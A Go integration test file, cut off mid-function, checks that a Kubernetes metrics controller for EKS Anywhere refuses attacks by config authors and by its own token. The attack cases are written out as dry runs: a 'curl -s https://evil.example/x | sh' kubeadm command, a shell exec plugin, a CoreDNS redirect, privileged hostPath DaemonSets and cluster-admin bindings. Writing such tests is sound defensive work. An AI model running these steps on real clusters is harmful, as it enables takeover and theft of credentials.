package integration

import (
	"bytes"
	"context"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	admissionv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
	"k8s.io/utils/ptr"

	"github.com/eksa-metrics/eksa-metrics/config"
	"github.com/eksa-metrics/eksa-metrics/internal/cli"
	"github.com/eksa-metrics/eksa-metrics/internal/testutil"
	metricsv1alpha1 "github.com/eksa-metrics/eksa-metrics/pkg/apis/metrics/v1alpha1"
	"github.com/eksa-metrics/eksa-metrics/pkg/kubeproxy"
	"github.com/eksa-metrics/eksa-metrics/pkg/render"
	"github.com/eksa-metrics/eksa-metrics/pkg/spec"
	"github.com/eksa-metrics/eksa-metrics/pkg/templates"
	"github.com/eksa-metrics/eksa-metrics/test/framework"
)

// putMetricsConfig applies a MetricsConfig namespace/name with a spec.
func (f *fleet) putMetricsConfig(t testing.TB, namespace, name string, spec map[string]any) {
	t.Helper()
	mc := map[string]any{"apiVersion": "metrics.anywhere.eks.amazonaws.com/v1alpha1", "kind": "MetricsConfig",
		"metadata": map[string]any{"name": name, "namespace": namespace}, "spec": spec}
	if err := f.mgmt.Apply(context.Background(), "someone", true, mc); err != nil {
		t.Fatal(err)
	}
}

// clusterCondition waits until the status of MetricsConfig namespace/name
// has, for the Cluster, a condition of that type with that reason whose
// message holds want.
func (f *fleet) clusterCondition(t testing.TB, namespace, name, cluster, condType, reason, want string) {
	t.Helper()
	f.waitFor(t, fmt.Sprintf("%s/%s: %s %s %s", namespace, name, cluster, condType, reason), func() error {
		clusters := f.clusterStates(t, namespace, name)
		for _, c := range clusters {
			c := c.(map[string]any)
			if c["name"] != cluster {
				continue
			}
			conds, _ := c["conditions"].([]any)
			for _, cond := range conds {
				cond := cond.(map[string]any)
				if cond["type"] == condType && cond["reason"] == reason && strings.Contains(fmt.Sprint(cond["message"]), want) {
					return nil
				}
			}
			return fmt.Errorf("%v", c)
		}
		return fmt.Errorf("no MetricsConfigBinding for %s: %v", cluster, clusters)
	})
}

// The controller is a trust boundary: each attack a MetricsConfig author
// (or whoever writes a Cluster or a kubeconfig Secret) could make is
// refused with a status condition that says why, on the real management
// API server and a real workload API server, with the RBAC and admission
// policy `controller manifests` prints; and the controller's own identity
// can do no more than what it renders.
func TestControllerRefusesWhatItsAuthorsMayNotDo(t *testing.T) {
	ctx := context.Background()
	f := newFleet(t, "w1")
	f.startController(t, &counter{reqs: map[string]int{}})

	// An image from the custom resource: refused, whatever the namespace.
	f.putMetricsConfig(t, "default", "evil-image", map[string]any{"clusterRef": map[string]any{"kind": "Cluster", "name": "w1"},
		"scrapers": []any{map[string]any{"kind": "Group", "name": "metrics-readers"}},
		"images":   map[string]any{"kubeRBACProxy": "evil.example/kube-rbac-proxy:1"}})
	f.clusterCondition(t, "default", "evil-image", "w1", "Rendered", "NotAllowed", "spec.images")

	// A tenant's Cluster that shares the workload cluster's name: the
	// eksa-system objects of that name are default/w1's.
	f.eksaCluster(t, "team-a", "w1", "mgmt", nil)
	// A tenant's Cluster that says it manages itself.
	f.eksaCluster(t, "team-a", "evil", "evil", nil)
	f.putMetricsConfig(t, "team-a", "tenant", map[string]any{"clusterSelector": map[string]any{"matchLabels": map[string]any{"metrics": "on"}},
		"scrapers": []any{map[string]any{"kind": "ServiceAccount", "name": "prometheus", "namespace": "monitoring"}}})
	f.clusterCondition(t, "team-a", "tenant", "w1", "Rendered", "ClusterNotOwned", "belongs to the EKS Anywhere Cluster default/w1")
	f.clusterCondition(t, "team-a", "tenant", "evil", "Rendered", "NotAllowed", "a Cluster is the management cluster only when it is that one")

	// An empty selector selects nothing (it would be every Cluster of the
	// namespace, the management cluster's included).
	f.putMetricsConfig(t, "default", "everything", map[string]any{"clusterSelector": map[string]any{},
		"scrapers": []any{map[string]any{"kind": "Group", "name": "metrics-readers"}}})
	f.waitFor(t, "the empty selector reconciled", func() error {
		mc, err := f.mgmt.Dynamic.Resource(metricsConfigGVR).Namespace("default").Get(ctx, "everything", metav1.GetOptions{})
		if err != nil {
			return err
		}
		st, _, _ := unstructured.NestedMap(mc.Object, "status")
		if g, _, _ := unstructured.NestedInt64(st, "observedGeneration"); g != mc.GetGeneration() || st["selectedClusters"] != nil || len(f.clusterStates(t, "default", "everything")) != 0 {
			return fmt.Errorf("status %v", st)
		}
		return nil
	})

	// Kubeconfig Secrets with an exec plugin and with a tokenFile, for
	// Clusters that are default's own: refused before anything is run or
	// sent.
	l := newListener(t)
	dir := t.TempDir()
	marker := filepath.Join(dir, "exec-ran")
	tokenFile := filepath.Join(dir, "token")
	if err := os.WriteFile(tokenFile, []byte("eksa-metrics-marker-token-77c1"), 0o600); err != nil {
		t.Fatal(err)
	}
	f.eksaCluster(t, "default", "w-exec", "mgmt", l.kubeconfig(t, &clientcmdapi.AuthInfo{Exec: &clientcmdapi.ExecConfig{
		APIVersion: "client.authentication.k8s.io/v1", Command: "/bin/sh", InteractiveMode: clientcmdapi.NeverExecInteractiveMode,
		Args: []string{"-c", `touch "` + marker + `"`}}}))
	f.eksaCluster(t, "default", "w-token", "mgmt", l.kubeconfig(t, &clientcmdapi.AuthInfo{TokenFile: tokenFile}))
	// A Secret whose kubeconfig does not parse is invalid input, not an
	// unreachable cluster (which the fleet alert would page for).
	f.eksaCluster(t, "default", "w-garbled", "mgmt", []byte("apiVersion: v1\nkind: Config\nclusters: {not a list\n"))
	for _, c := range []string{"w-exec", "w-token", "w-garbled"} {
		f.putMetricsConfig(t, "default", c, map[string]any{"clusterRef": map[string]any{"kind": "Cluster", "name": c},
			"scrapers": []any{map[string]any{"kind": "Group", "name": "metrics-readers"}}})
	}
	f.clusterCondition(t, "default", "w-exec", "w-exec", "Applied", "KubeconfigRefused", "sets exec")
	f.clusterCondition(t, "default", "w-token", "w-token", "Applied", "KubeconfigRefused", "sets tokenFile")
	f.clusterCondition(t, "default", "w-garbled", "w-garbled", "Applied", "KubeconfigInvalid", "kubectl -n eksa-system get secret w-garbled-kubeconfig")
	// A Cluster whose kubeconfig Secret the installation does not name:
	// not read, and the condition says how to grant it.
	f.eksaCluster(t, "default", "w-ungranted", "mgmt", nil)
	if _, err := f.mgmt.Client.CoreV1().Secrets("eksa-system").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "w-ungranted-kubeconfig", Namespace: "eksa-system"},
		Data: map[string][]byte{"value": flatKubeconfig(t, f.workloads["w1"].Kubeconfig(t, "admin", "kubernetes-admin", "system:masters"))}}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	f.putMetricsConfig(t, "default", "w-ungranted", map[string]any{"clusterRef": map[string]any{"kind": "Cluster", "name": "w-ungranted"},
		"scrapers": []any{map[string]any{"kind": "Group", "name": "metrics-readers"}}})
	f.clusterCondition(t, "default", "w-ungranted", "w-ungranted", "Applied", "KubeconfigNotGranted", "--workload-cluster w-ungranted")
	if v := fleetMetric(t, "eksa_metrics_cluster_unreachable", map[string]string{"cluster": "w-ungranted"}); v != 0 {
		t.Errorf("a kubeconfig not granted counts as unreachable: eksa_metrics_cluster_unreachable %v", v)
	}
	if v := fleetMetric(t, "eksa_metrics_cluster_unreachable", map[string]string{"cluster": "w-garbled"}); v != 0 {
		t.Errorf("a garbled kubeconfig Secret counts as unreachable: eksa_metrics_cluster_unreachable %v", v)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Error("the exec plugin of a kubeconfig Secret ran in the controller")
	}
	if conns, auth := l.seen(); conns > 0 {
		t.Errorf("the server a kubeconfig Secret names was contacted %d times (Authorization %q)", conns, auth)
	}

	// Nothing of the refused MetricsConfigs reached the real w1.
	if objs := objects(t, f.workloads["w1"]); len(objs) > 0 {
		t.Errorf("w1 has %v although every MetricsConfig for it was refused", objs)
	}
	// What proves the test can fail: the platform team's own MetricsConfig
	// for w1 does reach it.
	f.putMetricsConfig(t, "default", "w1", map[string]any{"clusterRef": map[string]any{"kind": "Cluster", "name": "w1"},
		"scrapers": []any{map[string]any{"kind": "Group", "name": "metrics-readers"}}})
	f.waitFor(t, "default/w1 applied to w1", func() error {
		if objs := objects(t, f.workloads["w1"]); !has(objs, "ClusterRole/"+templates.ReaderRole) {
			mc, err := f.mgmt.Dynamic.Resource(metricsConfigGVR).Namespace("default").Get(ctx, "w1", metav1.GetOptions{})
			return fmt.Errorf("w1 has %v; MetricsConfig default/w1: %v %v", objs, err, mc.Object["status"])
		}
		return nil
	})

	// The controller's own identity: no cluster-wide Secrets, no DaemonSet
	// outside kube-system, none there as another ServiceAccount, no
	// Deployment made to run as another ServiceAccount.
	cfg, err := clientcmd.BuildConfigFromFlags("", f.controllerKubeconfig)
	if err != nil {
		t.Fatal(err)
	}
	as, err := kubernetes.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := as.CoreV1().Secrets("").List(ctx, metav1.ListOptions{}); !apierrors.IsForbidden(err) {
		t.Errorf("the controller lists Secrets cluster-wide: %v", err)
	}
	if _, err := as.CoreV1().Secrets("kube-public").Get(ctx, "x", metav1.GetOptions{}); !apierrors.IsForbidden(err) {
		t.Errorf("the controller reads Secrets in kube-public: %v", err)
	}
	ds := func(ns, sa string) *appsv1.DaemonSet {
		l := map[string]string{"app": "probe"}
		return &appsv1.DaemonSet{ObjectMeta: metav1.ObjectMeta{Name: templates.NodeDS, Namespace: ns, Labels: map[string]string{templates.ManagedByLabel: templates.Prefix}}, Spec: appsv1.DaemonSetSpec{
			Selector: &metav1.LabelSelector{MatchLabels: l},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: l}, Spec: corev1.PodSpec{ServiceAccountName: sa,
				Containers: []corev1.Container{{Name: "c", Image: "registry.example/probe:1"}}}}}}
	}
	dry := metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}
	if _, err := as.AppsV1().DaemonSets("kube-system").Create(ctx, ds("kube-system", "clusterrole-aggregation-controller"), dry); !apierrors.IsForbidden(err) && !apierrors.IsInvalid(err) {
		t.Errorf("the controller may run a DaemonSet in kube-system as another ServiceAccount: %v", err)
	} else if err != nil && !strings.Contains(err.Error(), templates.ProxySA) {
		t.Errorf("refused, but not by the admission policy: %v", err)
	}
	if _, err := as.AppsV1().DaemonSets("kube-system").Create(ctx, proxyDaemonSet(spec.DefaultKubeRBACProxyImage), dry); err != nil {
		t.Errorf("the controller may not create its own proxy DaemonSet: %v", err)
	}
	if _, err := as.AppsV1().DaemonSets("default").Create(ctx, ds("default", templates.ProxySA), dry); !apierrors.IsForbidden(err) {
		t.Errorf("the controller may create DaemonSets in default: %v", err)
	}
	// It cannot mint a token of another ServiceAccount through a token
	// Secret, only of the sidecar's.
	tokenSecret := func(sa string) *corev1.Secret {
		return &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "probe-token", Namespace: "kube-system", Annotations: map[string]string{corev1.ServiceAccountNameKey: sa},
			Labels: map[string]string{templates.ManagedByLabel: templates.Prefix}},
			Type: corev1.SecretTypeServiceAccountToken}
	}
	if _, err := as.CoreV1().Secrets("kube-system").Create(ctx, tokenSecret("clusterrole-aggregation-controller"), dry); !apierrors.IsForbidden(err) && !apierrors.IsInvalid(err) {
		t.Errorf("the controller may mint a token of another ServiceAccount: %v", err)
	}
	sidecarToken := tokenSecret(templates.SidecarSA)
	sidecarToken.Name = templates.SidecarTokenSecret
	// Where the renderer puts it (beside a sidecar), not in kube-system.
	if _, err := as.CoreV1().Secrets("kube-system").Create(ctx, sidecarToken, dry); !apierrors.IsForbidden(err) && !apierrors.IsInvalid(err) {
		t.Errorf("the controller may write the sidecar's token Secret in kube-system, where no sidecar runs: %v", err)
	}
	sidecarToken.Namespace = "eksa-system"
	if _, err := as.CoreV1().Secrets("eksa-system").Create(ctx, sidecarToken, dry); err != nil {
		t.Errorf("the controller may not write the sidecar's token Secret: %v", err)
	}
	// A management Deployment it edits keeps its ServiceAccount.
	d := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: "eksa-controller-manager", Namespace: "eksa-system"}, Spec: appsv1.DeploymentSpec{
		Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "m"}},
		Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": "m"}}, Spec: corev1.PodSpec{ServiceAccountName: "eksa-controller-manager",
			Containers: []corev1.Container{{Name: "manager", Image: "registry.example/m:1"}}}}}}
	if _, err := f.mgmt.Client.AppsV1().Deployments("eksa-system").Create(ctx, d, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	patch := func(sa string) error {
		body := fmt.Sprintf(`{"spec":{"template":{"spec":{"serviceAccountName":%q}}}}`, sa)
		_, err := as.AppsV1().Deployments("eksa-system").Patch(ctx, "eksa-controller-manager", "application/strategic-merge-patch+json", []byte(body), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
		return err
	}
	if err := patch("capi-manager"); !apierrors.IsForbidden(err) && !apierrors.IsInvalid(err) {
		t.Errorf("the controller may make a management Deployment run as another ServiceAccount: %v", err)
	}
	if err := patch("eksa-controller-manager"); err != nil {
		t.Errorf("the controller may not edit a management Deployment it edits: %v", err)
	}
}

// The controller's own token, with the RBAC and admission policy of
// `controller manifests`, on the real API server: each way it could take
// over the management cluster is refused, and what the controller does is
// not. Every attempt is a server-side dry run (admission runs, nothing is
// stored).
func TestControllerTokenCannotTakeThePlatform(t *testing.T) {
	ctx := context.Background()
	f := newFleet(t)
	mgmt := f.mgmt
	mgmt.InstallCRDDir(t, "cert-manager")
	installPackageCRD(t, mgmt)
	if err := mgmt.Apply(ctx, "eks-a-controller", true, eksaKCP(t, "docker.v1beta2", "v1beta2")); err != nil {
		t.Fatal(err)
	}
	cfg, err := clientcmd.BuildConfigFromFlags("", f.controllerKubeconfig)
	if err != nil {
		t.Fatal(err)
	}
	as := kubernetes.NewForConfigOrDie(cfg)
	dyn := dynamic.NewForConfigOrDie(cfg)
	dry := metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}
	dryPatch := metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}, FieldManager: "eksa-metrics"}
	dryDelete := metav1.DeleteOptions{DryRun: []string{metav1.DryRunAll}}
	ours := map[string]string{templates.ManagedByLabel: templates.Prefix}

	// What the platform has, written by its admin.
	for _, obj := range []map[string]any{
		{"apiVersion": "v1", "kind": "ConfigMap", "metadata": map[string]any{"name": "coredns", "namespace": "kube-system"}, "data": map[string]any{"Corefile": ".:53 {}"}},
		// The discovery Role where a binding's check needs it to exist.
		{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": map[string]any{"name": templates.DiscoveryRole, "namespace": "eksa-system", "labels": map[string]any{templates.ManagedByLabel: templates.Prefix}},
			"rules": []any{map[string]any{"apiGroups": []any{""}, "resources": []any{"pods"}, "verbs": []any{"get"}}}},
		{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": map[string]any{"name": templates.DiscoveryRole, "namespace": "monitoring", "labels": map[string]any{templates.ManagedByLabel: templates.Prefix}},
			"rules": []any{map[string]any{"apiGroups": []any{""}, "resources": []any{"pods"}, "verbs": []any{"get"}}}},
		{"apiVersion": "packages.eks.amazonaws.com/v1alpha1", "kind": "Package", "metadata": map[string]any{"name": "metallb", "namespace": "eksa-packages-mgmt"},
			"spec": map[string]any{"packageName": "metallb", "targetNamespace": "metallb-system"}},
	} {
		if ns, _, _ := unstructured.NestedString(obj, "metadata", "namespace"); ns != "" {
			mgmt.ServiceAccount(t, ns, "default")
		}
		if err := mgmt.Apply(ctx, "platform", true, obj); err != nil {
			t.Fatal(err)
		}
	}

	type attempt struct {
		name string
		do   func() error
	}
	refused := []attempt{
		{"patch kube-system/coredns", func() error {
			_, err := as.CoreV1().ConfigMaps("kube-system").Patch(ctx, "coredns", types.MergePatchType, []byte(`{"data":{"Corefile":". {forward . 203.0.113.1}"}}`), dryPatch)
			return err
		}},
		{"a privileged, hostPID DaemonSet with hostPath / and its own image, as the proxies' ServiceAccount", func() error {
			d := proxyDaemonSet("registry.example/evil:1")
			d.Spec.Template.Spec.HostPID = true
			d.Spec.Template.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: ptr.To(true)}
			d.Spec.Template.Spec.Volumes = append(d.Spec.Template.Spec.Volumes, corev1.Volume{Name: "root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
			_, err := as.AppsV1().DaemonSets("kube-system").Create(ctx, d, dry)
			return err
		}},
		{"the proxy DaemonSet from another image", func() error {
			_, err := as.AppsV1().DaemonSets("kube-system").Create(ctx, proxyDaemonSet("registry.example/evil:1"), dry)
			return err
		}},
		{"the proxy DaemonSet, privileged", func() error {
			d := proxyDaemonSet(spec.DefaultKubeRBACProxyImage)
			d.Spec.Template.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: ptr.To(true)}
			_, err := as.AppsV1().DaemonSets("kube-system").Create(ctx, d, dry)
			return err
		}},
		{"a Role giving eksa-system's Secrets", func() error {
			_, err := as.RbacV1().Roles("eksa-system").Create(ctx, &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: templates.DiscoveryRole, Labels: ours},
				Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"get", "list"}}}}, dry)
			return err
		}},
		{"a RoleBinding to system:authenticated", func() error {
			_, err := as.RbacV1().RoleBindings("eksa-system").Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: templates.DiscoveryRole, Labels: ours},
				RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: templates.DiscoveryRole},
				Subjects: []rbacv1.Subject{{Kind: rbacv1.GroupKind, APIGroup: rbacv1.GroupName, Name: "system:authenticated"}}}, dry)
			return err
		}},
		{"a ClusterRoleBinding to cluster-admin", func() error {
			_, err := as.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: templates.ReaderRole + "-x", Labels: ours},
				RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
				Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "default", Namespace: "default"}}}, dry)
			return err
		}},
		{"delete the cluster-admin ClusterRoleBinding", func() error {
			return as.RbacV1().ClusterRoleBindings().Delete(ctx, "cluster-admin", dryDelete)
		}},
		{"empty system:auth-delegator", func() error {
			_, err := as.RbacV1().ClusterRoles().Patch(ctx, templates.AuthDelegator, types.MergePatchType, []byte(`{"rules":[]}`), dryPatch)
			return err
		}},
		{"take over the platform's metallb Package", func() error {
			_, err := dyn.Resource(packageGVR).Namespace("eksa-packages-mgmt").Patch(ctx, "metallb", types.MergePatchType,
				[]byte(`{"metadata":{"labels":{"`+templates.ManagedByLabel+`":"`+templates.Prefix+`"}},"spec":{"packageName":"prometheus","targetNamespace":"kube-system"}}`), dryPatch)
			return err
		}},
		{"delete the platform's metallb Package", func() error {
			return dyn.Resource(packageGVR).Namespace("eksa-packages-mgmt").Delete(ctx, "metallb", dryDelete)
		}},
		{"a cert-manager Issuer over the cluster's CA", func() error {
			_, err := dyn.Resource(issuerGVR).Namespace("eksa-system").Create(ctx, &unstructured.Unstructured{Object: map[string]any{
				"apiVersion": "cert-manager.io/v1", "kind": "Issuer", "metadata": map[string]any{"name": templates.CAIssuer, "labels": map[string]any{templates.ManagedByLabel: templates.Prefix}},
				"spec": map[string]any{"ca": map[string]any{"secretName": "mgmt-ca"}}}}, dry)
			return err
		}},
		{"preKubeadmCommands on the KubeadmControlPlane", func() error {
			_, err := dyn.Resource(kcpGVR(spec.CAPIv1beta2)).Namespace("eksa-system").Patch(ctx, "test", types.MergePatchType,
				[]byte(`{"spec":{"kubeadmConfigSpec":{"preKubeadmCommands":["curl -s https://evil.example/x | sh"]}}}`), dryPatch)
			return err
		}},
		{"anonymous-auth on the API server", func() error {
			return patchExtraArgs(ctx, t, dyn, mgmt, "apiServer", "anonymous-auth", "true")
		}},
	}
	for _, a := range allowlistAttacks(ctx, t, f, as, dyn) {
		refused = append(refused, attempt(a))
	}
	reads, granted := secretReads(ctx, t, f, as)
	for _, a := range reads {
		refused = append(refused, attempt(a))
	}
	for _, a := range refused {
		err := a.do()
		switch {
		case err == nil:
			t.Errorf("%s: allowed to the controller's token", a.name)
		case !apierrors.IsForbidden(err) && !apierrors.IsInvalid(err):
			t.Errorf("%s: failed, but not refused: %v", a.name, err)
		default:
			t.Logf("refused: %s: %v", a.name, err)
		}
	}

	// What the controller does (the test can fail): its own proxy
	// DaemonSet, a role it renders bound to a scraper, a z-page gate in
	// the scheduler's extraArgs, kube-proxy's restart.
	allowed := []attempt{
		{"the proxy DaemonSet", func() error {
			_, err := as.AppsV1().DaemonSets("kube-system").Create(ctx, proxyDaemonSet(spec.DefaultKubeRBACProxyImage), dry)
			return err
		}},
		{"the discovery Role and its binding", func() error {
			if _, err := as.RbacV1().Roles("monitoring").Update(ctx, &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: templates.DiscoveryRole, Labels: ours},
				Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"pods", "services"}, Verbs: []string{"get", "list", "watch"}}}},
				metav1.UpdateOptions{DryRun: []string{metav1.DryRunAll}}); err != nil {
				return err
			}
			_, err := as.RbacV1().RoleBindings("monitoring").Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: templates.DiscoveryRole, Labels: ours},
				RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: templates.DiscoveryRole},
				Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "prometheus-k8s", Namespace: "monitoring"}}}, dry)
			return err
		}},
		{"a z-page gate for the scheduler", func() error {
			return patchExtraArgs(ctx, t, dyn, mgmt, "scheduler", "feature-gates", "ComponentStatusz=true")
		}},
	}
	for _, a := range granted {
		allowed = append(allowed, attempt(a))
	}
	for _, a := range allowed {
		if err := a.do(); err != nil {
			t.Errorf("%s: refused to the controller: %v", a.name, err)
		}
	}
}

// secretReads are the reads of Secrets the controller's token could make
// while its Roles granted a namespace's Secrets whole: the management
// cluster's own admin kubeconfig and CA keys, a workload cluster's
// kubeconfig nobody granted, kube-system's bootstrap tokens, a provider's
// webhook key, prometheus-operator's credentials in a monitoring
// namespace, and any of them through a list or a watch. granted are the
// reads it needs (the test can fail): the kubeconfig it was given, and its
// own Secrets by name.
func secretReads(ctx context.Context, t *testing.T, f *fleet, as *kubernetes.Clientset) (refused, granted []struct {
	name string
	do   func() error
}) {
	t.Helper()
	type attempt = struct {
		name string
		do   func() error
	}
	secret := func(ns, name string, typ corev1.SecretType, data map[string][]byte) {
		f.mgmt.ServiceAccount(t, ns, "default")
		if _, err := f.mgmt.Client.CoreV1().Secrets(ns).Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns}, Type: typ, Data: data}, metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
	}
	fake := map[string][]byte{"value": []byte("clearly-fake-test-value")}
	// What EKS Anywhere keeps in eksa-system for the management cluster
	// and a workload cluster nobody granted, and for one granted.
	secret("eksa-system", "mgmt-kubeconfig", corev1.SecretTypeOpaque, fake)
	secret("eksa-system", "mgmt-ca", corev1.SecretTypeOpaque, map[string][]byte{"tls.crt": []byte("fake"), "tls.key": []byte("fake")})
	secret("eksa-system", "mgmt-etcd", corev1.SecretTypeOpaque, map[string][]byte{"tls.crt": []byte("fake"), "tls.key": []byte("fake")})
	secret("eksa-system", "w9-kubeconfig", corev1.SecretTypeOpaque, fake)
	secret("eksa-system", "w1-kubeconfig", corev1.SecretTypeOpaque, fake)
	f.grant(t, "w1")
	secret("kube-system", "bootstrap-token-abcdef", corev1.SecretTypeBootstrapToken, map[string][]byte{"token-id": []byte("abcdef"), "token-secret": []byte("0123456789abcdef")})
	secret("capi-system", "capi-webhook-service-cert", corev1.SecretTypeOpaque, map[string][]byte{"tls.crt": []byte("fake"), "tls.key": []byte("fake")})
	secret("monitoring", "alertmanager-main", corev1.SecretTypeOpaque, map[string][]byte{"alertmanager.yaml": []byte("fake")})
	secret("monitoring", templates.ScraperTokenSecret, corev1.SecretTypeOpaque, fake)
	get := func(ns, name string) func() error {
		return func() error {
			_, err := as.CoreV1().Secrets(ns).Get(ctx, name, metav1.GetOptions{})
			return err
		}
	}
	for _, r := range [][2]string{{"eksa-system", "mgmt-kubeconfig"}, {"eksa-system", "mgmt-ca"}, {"eksa-system", "mgmt-etcd"}, {"eksa-system", "w9-kubeconfig"},
		{"kube-system", "bootstrap-token-abcdef"}, {"capi-system", "capi-webhook-service-cert"}, {"monitoring", "alertmanager-main"}} {
		refused = append(refused, attempt{"read Secret " + r[0] + "/" + r[1], get(r[0], r[1])})
	}
	for _, ns := range []string{"eksa-system", "kube-system", "capi-system", "monitoring"} {
		refused = append(refused, attempt{"list the Secrets of " + ns, func() error {
			_, err := as.CoreV1().Secrets(ns).List(ctx, metav1.ListOptions{})
			return err
		}}, attempt{"list the Secrets of " + ns + " labelled as ours", func() error {
			_, err := as.CoreV1().Secrets(ns).List(ctx, metav1.ListOptions{LabelSelector: templates.ManagedByLabel + "=" + templates.Prefix})
			return err
		}}, attempt{"watch the Secrets of " + ns, func() error {
			w, err := as.CoreV1().Secrets(ns).Watch(ctx, metav1.ListOptions{})
			if err == nil {
				w.Stop()
			}
			return err
		}})
	}
	refused = append(refused, attempt{"list eksa-system's Secrets by the management kubeconfig's name", func() error {
		_, err := as.CoreV1().Secrets("eksa-system").List(ctx, metav1.ListOptions{FieldSelector: "metadata.name=mgmt-kubeconfig"})
		return err
	}})
	granted = []attempt{
		{"read the granted kubeconfig eksa-system/w1-kubeconfig", get("eksa-system", "w1-kubeconfig")},
		{"read its scraper token Secret by name", get("monitoring", templates.ScraperTokenSecret)},
		{"list and watch its scraper token Secret by name", func() error {
			opts := metav1.ListOptions{FieldSelector: "metadata.name=" + templates.ScraperTokenSecret}
			if _, err := as.CoreV1().Secrets("monitoring").List(ctx, opts); err != nil {
				return err
			}
			w, err := as.CoreV1().Secrets("monitoring").Watch(ctx, opts)
			if err == nil {
				w.Stop()
			}
			return err
		}},
	}
	return refused, granted
}

// allowlistAttacks are writes of the controller's own kinds, names and
// images that do something else: each was admitted by a policy that named
// what may not be done, and an allowlist refuses them.
func allowlistAttacks(ctx context.Context, t *testing.T, f *fleet, as *kubernetes.Clientset, dyn dynamic.Interface) []struct {
	name string
	do   func() error
} {
	t.Helper()
	dry := metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}
	ours := map[string]string{templates.ManagedByLabel: templates.Prefix}
	// Cluster API's manager as its manifests ship it, written by the admin.
	capi := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: "capi-controller-manager", Namespace: "capi-system"}, Spec: appsv1.DeploymentSpec{
		Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"cluster.x-k8s.io/provider": "cluster-api"}},
		Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"cluster.x-k8s.io/provider": "cluster-api"}}, Spec: corev1.PodSpec{ServiceAccountName: "capi-manager",
			Containers: []corev1.Container{{Name: "manager", Image: "registry.k8s.io/cluster-api/cluster-api-controller:v1.13.2",
				Args: []string{"--leader-elect", "--diagnostics-address=:8443", "--insecure-diagnostics=false"}}}}}}}
	f.mgmt.ServiceAccount(t, "capi-system", "capi-manager")
	f.mgmt.ServiceAccount(t, "eksa-packages-w1", "default")
	if _, err := f.mgmt.Client.AppsV1().Deployments("capi-system").Create(ctx, capi, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	editCAPI := func(edit func(*corev1.PodSpec)) func() error {
		return func() error {
			d, err := as.AppsV1().Deployments("capi-system").Get(ctx, "capi-controller-manager", metav1.GetOptions{})
			if err != nil {
				return err
			}
			edit(&d.Spec.Template.Spec)
			_, err = as.AppsV1().Deployments("capi-system").Update(ctx, d, metav1.UpdateOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}
	}
	proxyDS := func(edit func(*appsv1.DaemonSet)) func() error {
		return func() error {
			d := proxyDaemonSet(spec.DefaultHAProxyImage)
			edit(d)
			_, err := as.AppsV1().DaemonSets("kube-system").Create(ctx, d, dry)
			return err
		}
	}
	kcp := func(patch string) func() error {
		return func() error {
			_, err := dyn.Resource(kcpGVR(spec.CAPIv1beta2)).Namespace("eksa-system").Patch(ctx, "test", types.MergePatchType, []byte(patch),
				metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}
	}
	create := func(gvr schema.GroupVersionResource, ns string, obj map[string]any) func() error {
		return func() error {
			_, err := dyn.Resource(gvr).Namespace(ns).Create(ctx, &unstructured.Unstructured{Object: obj}, dry)
			return err
		}
